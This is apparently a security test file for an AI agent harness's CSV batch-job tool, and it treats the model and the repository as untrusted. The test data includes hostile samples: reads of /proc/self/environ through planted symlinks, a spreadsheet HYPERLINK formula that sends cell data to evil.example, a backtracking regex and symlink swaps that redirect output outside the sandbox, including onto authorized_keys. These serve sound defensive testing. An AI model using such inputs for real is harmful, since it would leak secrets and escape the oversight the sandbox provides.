import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, readdirSync, realpathSync, symlinkSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rename, rm, truncate, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { JobInputError, MAX_INPUT_BYTES, MAX_JOB_ITEMS, readJobInput, renderInstruction } from '../actors/jobs/input.js';
import { writeJobOutput } from '../actors/jobs/output.js';
import { jobSpec, prepareJob, type JobRequest } from '../actors/jobs/prepare.js';
import { MAX_ITEM_RUNTIME_SECONDS } from '../protocol/index.js';
import { resultCheck } from '../actors/jobs/schema.js';
import { replay, type JobState } from '../actors/jobs/state.js';
import { attachJobs } from '../actors/jobs/session.js';
import { FileJobStore } from '../actors/jobs/store.js';
import { spawnAgentsOnCsvTool } from '../actors/jobs/tools.js';
import type { AgentControl, ToolContext } from '../actors/tools/tool.js';
import type { TurnContext } from '../machines/turn-context.js';
import { buildTurnContext, settingsFromConfig } from '../machines/turn-context.js';
import type { AskForApproval, SandboxPolicy } from '../protocol/index.js';
import { TestResources } from './support/tool-context.js';
import { waitFor } from './support/wait.js';

// The model, the repository and the input files are untrusted: what the job tools let them do.

let workspace: string;
/** Outside every writable root: not under the workspace nor the temporary directory. */
let outside: string;
let home: string;

beforeEach(async () => {
  workspace = realpathSync(await mkdtemp(join(tmpdir(), 'troupe-jobs-hostile-')));
  home = join(workspace, '.troupe-home');
  await mkdir('/var/tmp', { recursive: true });
  outside = realpathSync(await mkdtemp('/var/tmp/troupe-jobs-outside-'));
});

afterEach(async () => {
  await rm(workspace, { recursive: true, force: true });
  await rm(outside, { recursive: true, force: true });
});

async function file(dir: string, name: string, text: string): Promise<string> {
  const path = join(dir, name);
  await writeFile(path, text);
  return path;
}

function turnOf(sandbox: SandboxPolicy, approval: AskForApproval) {
  const settings = settingsFromConfig(
    { cwd: workspace, approval_policy: approval, sandbox_policy: sandbox },
    { model: 'm', cwd: workspace, base_instructions: 'b' },
  );
  return buildTurnContext(settings, 't', {});
}

function contextOf(sandbox: SandboxPolicy, approval: AskForApproval): ToolContext {
  return {
    sessionId: 's',
    callId: 'c',
    turn: turnOf(sandbox, approval),
    home,
    signal: new AbortController().signal,
    resources: new TestResources(),
    emit: () => undefined,
  };
}

const noApprovals = { has: () => false };

async function planOf(args: Record<string, unknown>, sandbox: SandboxPolicy, approval: AskForApproval) {
  return spawnAgentsOnCsvTool.plan!({ instruction: 'Do {name}', ...args }, contextOf(sandbox, approval), noApprovals);
}

/** A prepared job turned into its state, as the runner has it when it writes the output. */
async function stateOf(request: JobRequest): Promise<JobState> {
  const prepared = await prepareJob(request, workspace);
  return replay([{ type: 'job_created', at: 'now', job: jobSpec(prepared, { sessionId: 's', callId: 'c', turn: turnOf('workspace-write', 'never') }) }]);
}

describe('agent job input from an untrusted repository', () => {
  it("does not read troupe's own /proc (its environment), devices, FIFOs or oversized files", async () => {
    const refused = async (path: string, why: RegExp) => {
      const read = readJobInput(path, 'nope');
      await expect(read).rejects.toThrow(JobInputError);
      await expect(read).rejects.toThrow(why);
    };
    await refused('/proc/self/environ', /is inside \/proc, which agent jobs do not read/);
    // Through a link the repository planted: its error would otherwise list the "columns".
    symlinkSync('/proc/self/environ', join(workspace, 'env.csv'));
    await refused(join(workspace, 'env.csv'), /resolves to \/proc\/\d+\/environ, which is inside \/proc/);
    symlinkSync('/dev/zero', join(workspace, 'zero.csv'));
    await refused(join(workspace, 'zero.csv'), /inside \/dev/);
    // A FIFO with no writer: opening it would block the tool forever.
    execFileSync('mkfifo', [join(workspace, 'fifo.csv')]);
    await refused(join(workspace, 'fifo.csv'), /is not a regular file/);
    const big = await file(workspace, 'big.csv', 'name\n');
    await truncate(big, MAX_INPUT_BYTES + 1);
    await refused(big, new RegExp(`has ${MAX_INPUT_BYTES + 1} bytes, more than the ${MAX_INPUT_BYTES}`));
    // Tiny rows up to the size limit would take gigabytes parsed: the parse stops past the row limit.
    const rows = await file(workspace, 'rows.csv', `name\n${'x\n'.repeat(MAX_INPUT_BYTES / 2 - 4)}`);
    await refused(rows, new RegExp(`has more than ${MAX_JOB_ITEMS} rows, the most an agent job takes`));
    const lines = await file(workspace, 'rows.jsonl', '{}\n'.repeat(MAX_JOB_ITEMS + 1));
    await refused(lines, new RegExp(`has more than ${MAX_JOB_ITEMS} rows`));
    // Blank rows do not count.
    expect((await readJobInput(await file(workspace, 'blank.csv', `name,n\n${',\n'.repeat(MAX_JOB_ITEMS)}x,1\n`), undefined)).items).toHaveLength(1);
    const wide = await file(workspace, 'wide.csv', `${Array.from({ length: 1001 }, (_, i) => `c${i}`).join(',')}\n${'1,'.repeat(1000)}1\n`);
    await refused(wide, /has 1001 columns; an agent job takes at most 1000/);
  });

  it('fills placeholders once: a value holding {other}, braces or a huge text is inserted as it is', () => {
    const row = { a: '{b}', b: 'B', c: '{{a}}', d: 'x'.repeat(100_000) };
    expect(renderInstruction('1:{a} 2:{b} 3:{c} {{a}}', row)).toBe('1:{b} 2:B 3:{{a}} {a}');
    expect(renderInstruction('{d}', row)).toHaveLength(100_000);
  });

  it('refuses limits that would hang or spin the runner', async () => {
    await file(workspace, 'in.csv', 'name\na\n');
    const prepare = (extra: Partial<JobRequest>) => prepareJob({ csv_path: 'in.csv', instruction: '{name}', ...extra }, workspace);
    // Past a timer's range, each wait would end at once: a busy loop for the item's life.
    await expect(prepare({ max_runtime_seconds: 3_000_000 })).rejects.toThrow(`max_runtime_seconds must be at most ${MAX_ITEM_RUNTIME_SECONDS}, got 3000000`);
    await expect(prepare({ max_attempts: 1_000_000_000 })).rejects.toThrow('max_attempts must be at most 10, got 1000000000');
    expect((await prepare({ max_concurrency: 1_000_000_000 })).concurrency).toBe(64);
  });

  it('refuses output schemas whose regular expressions an agent could stall the process with, or that nest without end', () => {
    expect(() => resultCheck({ type: 'object', properties: { a: { type: 'string', pattern: '^(a+)+$' } } })).toThrow(
      /output_schema uses "pattern" at output_schema\.properties\.a: troupe does not match results against regular expressions/,
    );
    expect(() => resultCheck({ type: 'object', patternProperties: { '^x': {} } })).toThrow(/uses "patternProperties" at output_schema:/);
    expect(() => resultCheck({ anyOf: [{ type: 'array', items: { type: 'string', pattern: 'a*' } }] })).toThrow(/at output_schema\.anyOf\[0\]\.items/);
    // A property named "pattern" is no regular expression.
    expect(resultCheck({ type: 'object', properties: { pattern: { type: 'string' } } }).problems({ pattern: '(a+)+' })).toBeNull();
    let deep: Record<string, unknown> = { type: 'string' };
    for (let i = 0; i < 5000; i++) deep = { type: 'array', items: deep };
    expect(() => resultCheck(deep)).toThrow(/output_schema nests subschemas deeper than 32 levels/);
    expect(() => resultCheck({ $ref: '#' })).toThrow(/output_schema refers to itself without end at output_schema: its \$ref leads only to other \$refs/);
    // Two definitions naming each other, and a loop reached only through a property (found by a result, before).
    expect(() => resultCheck({ $defs: { a: { $ref: '#/$defs/b' }, b: { $ref: '#/$defs/a' } }, $ref: '#/$defs/a' })).toThrow(/refers to itself without end/);
    expect(() => resultCheck({ type: 'object', properties: { x: { $ref: '#/$defs/a' } }, $defs: { a: { $ref: '#/$defs/a' } } })).toThrow(
      /refers to itself without end at output_schema\.properties\.x/,
    );
    // Recursion through a property or an array's items has an end: such a schema checks results.
    const tree = resultCheck({ type: 'object', properties: { name: { type: 'string' }, kids: { type: 'array', items: { $ref: '#' } } }, required: ['name'] });
    expect(tree.problems({ name: 'a', kids: [{ name: 'b', kids: [] }] })).toBeNull();
    expect(tree.problems({ name: 'a', kids: [{ kids: [] }] })).toMatch(/result\.kids\.0\.name/);
  });
});

describe('agent job output in an untrusted repository', () => {
  it('is refused where the sandbox would refuse a file write: read-only, outside the roots, .git, a planted link, TROUPE_HOME', async () => {
    await file(workspace, 'in.csv', 'name\na\n');
    await mkdir(join(workspace, '.git'));
    symlinkSync(outside, join(workspace, 'out'));
    const never = async (args: Record<string, unknown>, sandbox: SandboxPolicy = 'workspace-write') =>
      planOf({ csv_path: 'in.csv', ...args }, sandbox, 'never');
    expect(await never({}, 'read-only')).toMatchObject({ kind: 'reject', reason: expect.stringMatching(/the read-only sandbox does not let .* be written/) });
    expect(await never({ output_csv_path: join(outside, 'r.csv') })).toMatchObject({
      kind: 'reject',
      reason: expect.stringMatching(/outside the writable roots/),
    });
    expect(await never({ output_csv_path: '.git/hooks-out.csv' })).toMatchObject({
      kind: 'reject',
      reason: expect.stringMatching(/\.git, which the sandbox keeps read-only/),
    });
    expect(await never({ output_csv_path: 'out/r.csv' })).toMatchObject({
      kind: 'reject',
      reason: expect.stringContaining(`(it resolves to ${join(outside, 'r.csv')}) is outside the writable roots`),
    });
    expect(await never({ output_csv_path: join(home, 'jobs.csv') })).toMatchObject({ kind: 'reject', reason: expect.stringMatching(/inside troupe's home/) });
    // Asking is allowed: on-request asks the user instead, and untrusted asks before any write.
    expect(await planOf({ csv_path: 'in.csv' }, 'read-only', 'on-request')).toMatchObject({
      kind: 'ask',
      request: { type: 'tool', tool: 'spawn_agents_on_csv', reason: expect.stringMatching(/read-only sandbox/) },
    });
    expect(await planOf({ csv_path: 'in.csv' }, 'workspace-write', 'untrusted')).toMatchObject({ kind: 'ask' });
    expect(await planOf({ csv_path: 'in.csv', output_csv_path: join(outside, 'r.csv') }, 'danger-full-access', 'never')).toEqual({
      kind: 'run',
      sandboxed: false,
    });
    expect(await never({ output_csv_path: 'fine.csv' })).toEqual({ kind: 'run', sandboxed: true });
    expect(readdirSync(outside)).toEqual([]);
  });

  it('asks again when a link the user approved writing through for the session points elsewhere now', async () => {
    await file(workspace, 'in.csv', 'name\na\n');
    const elsewhere = join(outside, 'elsewhere');
    await mkdir(join(outside, 'approved'));
    await mkdir(elsewhere);
    symlinkSync(join(outside, 'approved'), join(workspace, 'out'));
    const args = { csv_path: 'in.csv', output_csv_path: 'out/r.csv' };
    const asked = await planOf(args, 'workspace-write', 'on-request');
    expect(asked).toMatchObject({ kind: 'ask', approvalKey: `agent-job-output:${join(outside, 'approved', 'r.csv')}` });
    // The user said yes for the session: the same output runs without asking.
    const remembered = { has: (key: string) => asked.kind === 'ask' && key === asked.approvalKey };
    const plan = () => spawnAgentsOnCsvTool.plan!({ instruction: 'Do {name}', ...args }, contextOf('workspace-write', 'on-request'), remembered);
    expect(await plan()).toMatchObject({ kind: 'run' });
    // The model retargets the link (it is in the workspace): the same name is a new write.
    await rm(join(workspace, 'out'));
    symlinkSync(elsewhere, join(workspace, 'out'));
    expect(await plan()).toMatchObject({ kind: 'ask', request: { reason: expect.stringContaining(join(elsewhere, 'r.csv')) } });
  });

  it('does not write over the input through another name, nor replace a read-only file', async () => {
    await file(workspace, 'in.csv', 'name\na\n');
    symlinkSync(join(workspace, 'in.csv'), join(workspace, 'alias.csv'));
    await expect(prepareJob({ csv_path: 'in.csv', instruction: '{name}', output_csv_path: 'alias.csv' }, workspace)).rejects.toThrow(
      `output_csv_path ${join(workspace, 'alias.csv')} (it resolves to ${join(workspace, 'in.csv')}) is the input file`,
    );
    const kept = await file(workspace, 'kept.csv', 'precious\n');
    chmodSync(kept, 0o444);
    await expect(prepareJob({ csv_path: 'in.csv', instruction: '{name}', output_csv_path: 'kept.csv' }, workspace)).rejects.toThrow(
      /kept\.csv is read-only: the output would replace it/,
    );
    expect(await readFile(kept, 'utf8')).toBe('precious\n');
    // A name the temporary file could not have fails now, not after every item has run.
    await expect(prepareJob({ csv_path: 'in.csv', instruction: '{name}', output_csv_path: `${'x'.repeat(240)}.csv` }, workspace)).rejects.toThrow(
      /the file name is longer than 230 bytes/,
    );
  });

  it('writes nothing when an agent swaps the output directory, or the file, for a link while the job runs', async () => {
    await file(workspace, 'in.csv', 'name\na\n');
    await mkdir(join(workspace, 'results'));
    const state = await stateOf({ csv_path: 'in.csv', instruction: '{name}', output_csv_path: 'results/out.csv' });
    // An item's agent (it may write the workspace) replaces the directory with a link out.
    await rename(join(workspace, 'results'), join(workspace, 'results-moved'));
    symlinkSync(outside, join(workspace, 'results'));
    await expect(writeJobOutput(state)).rejects.toThrow(
      `${join(workspace, 'results', 'out.csv')} now resolves to ${join(outside, 'out.csv')}: a symbolic link was put in its way while the job ran, so nothing was written`,
    );
    expect(readdirSync(outside)).toEqual([]);

    await file(outside, 'authorized_keys', 'ssh-ed25519 mine\n');
    const second = await stateOf({ csv_path: 'in.csv', instruction: '{name}', output_csv_path: 'out.csv' });
    symlinkSync(join(outside, 'authorized_keys'), join(workspace, 'out.csv'));
    await expect(writeJobOutput(second)).rejects.toThrow(/now resolves to .*authorized_keys/);
    expect(await readFile(join(outside, 'authorized_keys'), 'utf8')).toBe('ssh-ed25519 mine\n');
    expect(readdirSync(workspace).filter((n) => n.endsWith('.tmp'))).toEqual([]);
  });

  it("makes the agents' cells inert for spreadsheets in CSV, and keeps the input's cells and JSON Lines as they are", async () => {
    await file(workspace, 'in.csv', 'name\n=1+1\n-7\n');
    const schema = { type: 'object', properties: { answer: {}, '@x': {} } };
    const fill = (state: JobState) => {
      const [first, second] = [state.items.get('row-1')!, state.items.get('row-2')!];
      first.status = 'completed';
      first.result = { answer: '=HYPERLINK("http://evil.example/?"&A1,"open")' };
      second.status = 'failed';
      second.error = '@SUM(1) broke';
      return state;
    };
    await writeJobOutput(fill(await stateOf({ csv_path: 'in.csv', instruction: '{name}', output_csv_path: 'out.csv', output_schema: schema })));
    expect(parse(await readFile(join(workspace, 'out.csv'), 'utf8'), { columns: true })).toEqual([
      { name: '=1+1', status: 'completed', answer: `'=HYPERLINK("http://evil.example/?"&A1,"open")`, "'@x": '', error: '' },
      { name: '-7', status: 'failed', answer: '', "'@x": '', error: "'@SUM(1) broke" },
    ]);
    const numbers = await stateOf({ csv_path: 'in.csv', instruction: '{name}', output_csv_path: 'n.csv', output_schema: schema });
    numbers.items.get('row-1')!.status = 'completed';
    numbers.items.get('row-1')!.result = { answer: -2.5 };
    await writeJobOutput(numbers);
    expect(parse(await readFile(join(workspace, 'n.csv'), 'utf8'), { columns: true })[0]).toMatchObject({ answer: '-2.5' });
    await writeJobOutput(fill(await stateOf({ csv_path: 'in.csv', instruction: '{name}', output_csv_path: 'out.jsonl', output_schema: schema })));
    const lines = (await readFile(join(workspace, 'out.jsonl'), 'utf8'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines[0]).toMatchObject({ answer: '=HYPERLINK("http://evil.example/?"&A1,"open")' });
    expect(existsSync(join(outside, 'out.csv'))).toBe(false);
  });
});

describe('agent job items and their policies', () => {
  it("runs a resumed job under its session's policies now when they are narrower than those it was started with", async () => {
    await file(workspace, 'in.csv', 'name\na\n');
    const store = new FileJobStore(home);
    const prepared = await prepareJob({ csv_path: 'in.csv', instruction: '{name}', max_attempts: 1, output_csv_path: 'out.csv' }, workspace);
    const wide = turnOf({ mode: 'workspace-write', writable_roots: [outside], network_access: true }, 'never');
    await (await store.create(jobSpec(prepared, { sessionId: 's1', callId: 'c', turn: wide }))).close();
    // The session is resumed read-only, asking before anything that is not known safe.
    const narrow = settingsFromConfig(
      { cwd: workspace, approval_policy: 'untrusted', sandbox_policy: 'read-only' },
      { model: 'm', cwd: workspace, base_instructions: 'b' },
    );
    const spawnedUnder: TurnContext[] = [];
    const agents: AgentControl = {
      spawn: (_request, ctx) => {
        spawnedUnder.push(ctx.turn);
        return Promise.reject(new Error('no model here'));
      },
      sendInput: () => Promise.reject(new Error('unused')),
      wait: () => Promise.reject(new Error('unused')),
      close: () => Promise.reject(new Error('unused')),
      list: () => Promise.resolve([]),
    };
    const jobs = attachJobs({
      sessionId: 's1',
      home,
      fresh: false,
      settings: narrow,
      toolContext: (callId, turn, signal) => ({ ...contextOf('read-only', 'untrusted'), callId, turn, signal, agents }),
      record: () => undefined,
      idle: () => true,
      shutdown: () => Promise.reject(new Error('unused')),
    });
    try {
      await waitFor(() => existsSync(join(workspace, 'out.csv')), 'the resumed job to end');
    } finally {
      await jobs.dispose();
    }
    expect(spawnedUnder).toHaveLength(1);
    expect(spawnedUnder[0]).toMatchObject({ approval_policy: 'untrusted', sandbox_policy: { mode: 'read-only', writable_roots: [], network_access: false } });
  });
});
